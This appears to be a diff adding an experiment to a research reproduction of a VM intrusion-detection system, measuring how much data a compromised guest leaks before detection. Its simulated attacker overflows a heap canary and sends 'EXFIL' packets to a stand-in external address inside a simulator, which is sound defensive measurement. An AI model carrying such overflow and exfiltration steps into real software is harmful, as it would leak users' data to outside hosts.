@@ -1,0 +1,112 @@
+"""Quantifying the Best Effort window of vulnerability (§5.4).
+
+"It is hard to quantify the damage an attack can do, but we can quantify
+the protection in some way — the epoch interval still will determine how
+often we scan for attacks, so we can still guarantee that a system will
+be compromised for at most X milliseconds."
+
+This experiment measures X directly: a compromised program exfiltrates a
+packet per simulated beat from the moment of the exploit; we count what
+escapes before CRIMES suspends the VM, under both safety modes.
+"""
+
+from repro.core.config import CrimesConfig, SafetyMode
+from repro.core.crimes import Crimes
+from repro.detectors.canary import CanaryScanModule
+from repro.guest.devices import Packet
+from repro.guest.linux import LinuxGuest
+from repro.workloads.base import GuestProgram
+
+_VM_BYTES = 8 * 1024 * 1024
+
+
+class _BeatingExfiltrator(GuestProgram):
+    """Overflows a buffer at the trigger epoch (the memory evidence the
+    canary scan catches in either safety mode), then exfiltrates one
+    packet per millisecond beat until stopped."""
+
+    name = "beating-exfil"
+
+    def __init__(self, trigger_epoch):
+        super().__init__()
+        self.trigger_epoch = trigger_epoch
+        self._epoch = 0
+        self._pid = None
+        self.first_exfil_ms = None
+
+    def bind(self, vm):
+        super().bind(vm)
+        self._pid = vm.create_process("beating-victim").pid
+
+    def step(self, start_ms, interval_ms):
+        self._epoch += 1
+        if self._epoch < self.trigger_epoch:
+            return {}
+        if self.first_exfil_ms is None:
+            # The exploit: clobber a heap canary (detectable evidence).
+            process = self.vm.processes[self._pid]
+            victim = process.malloc(32)
+            process.write(victim, b"\x41" * 40)
+            self.first_exfil_ms = start_ms
+        beats = max(int(interval_ms), 1)
+        for beat in range(beats):
+            self.vm.nic.send(
+                Packet(
+                    "10.0.0.9:4444",
+                    "203.0.113.50:443",
+                    b"EXFIL beat %d of epoch %d" % (beat, self._epoch),
+                )
+            )
+        return {}
+
+    def state_dict(self):
+        return {"epoch": self._epoch, "pid": self._pid,
+                "first_exfil_ms": self.first_exfil_ms}
+
+    def load_state_dict(self, state):
+        self._epoch = state["epoch"]
+        self._pid = state["pid"]
+        self.first_exfil_ms = state["first_exfil_ms"]
+
+
+def measure_exposure(interval_ms, safety, trigger_epoch=2, seed=101):
+    """Run one attack under the given safety mode; returns exposure stats.
+
+    * ``escaped_packets`` — exfil packets that truly left the host,
+    * ``window_ms`` — time from the first exfil attempt until the VM was
+      suspended (the compromise window the paper bounds by the interval).
+    """
+    vm = LinuxGuest(name="exposure", memory_bytes=_VM_BYTES, seed=seed)
+    crimes = Crimes(
+        vm,
+        CrimesConfig(epoch_interval_ms=interval_ms, safety=safety,
+                     auto_respond=False, seed=seed),
+    )
+    crimes.install_module(CanaryScanModule())
+    attack = crimes.add_program(_BeatingExfiltrator(trigger_epoch))
+    crimes.start()
+    crimes.run(max_epochs=trigger_epoch + 3)
+    if not crimes.suspended:
+        raise RuntimeError("attack was not detected")
+    escaped = [
+        packet for packet in crimes.external_sink.packets
+        if packet.payload.startswith(b"EXFIL")
+    ]
+    return {
+        "interval_ms": interval_ms,
+        "safety": safety.value,
+        "escaped_packets": len(escaped),
+        "window_ms": crimes.clock.now - attack.first_exfil_ms,
+    }
+
+
+def best_effort_window_sweep(intervals=(20.0, 50.0, 100.0, 200.0),
+                             seed=101):
+    """§5.4's quantified guarantee, per interval and safety mode."""
+    rows = []
+    for interval in intervals:
+        for safety in (SafetyMode.SYNCHRONOUS, SafetyMode.BEST_EFFORT):
+            rows.append(
+                measure_exposure(interval, safety, seed=seed)
+            )
+    return rows
